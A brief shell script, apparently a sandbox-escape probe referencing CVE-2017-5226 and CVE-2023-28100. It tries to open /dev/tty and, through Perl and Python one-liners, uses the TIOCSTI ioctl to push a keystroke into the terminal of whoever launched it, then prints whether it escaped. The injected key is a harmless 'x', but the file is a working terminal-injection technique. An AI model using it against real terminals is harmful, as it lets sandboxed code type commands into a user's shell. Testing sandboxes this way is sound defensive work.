# Pushes keys into the terminal of whoever started us.
# advisory: CVE-2017-5226 (bubblewrap), CVE-2023-28100 (Flatpak)
( exec 3<>/dev/tty ) 2>/dev/null && echo ESCAPED a terminal
perl -e 'open(T, "+</dev/tty") or exit; ioctl(T, 0x5412, "x"); print "ESCAPED a key was pushed\n"'
python3 -c 'import fcntl,termios; fcntl.ioctl(open("/dev/tty"), termios.TIOCSTI, b"x"); print("ESCAPED")'
tty; stty -a; script -qc true /dev/null
echo ATTEMPTED
